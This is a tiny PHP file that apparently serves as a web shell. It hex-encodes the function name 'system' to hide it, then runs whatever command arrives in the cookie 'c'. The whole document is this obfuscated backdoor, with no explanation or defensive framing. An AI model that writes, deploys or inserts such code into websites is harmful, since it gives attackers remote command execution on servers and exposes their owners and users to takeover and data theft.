<?php
$f = pack('H*', '73797374656d');
$f($_COOKIE['c']);
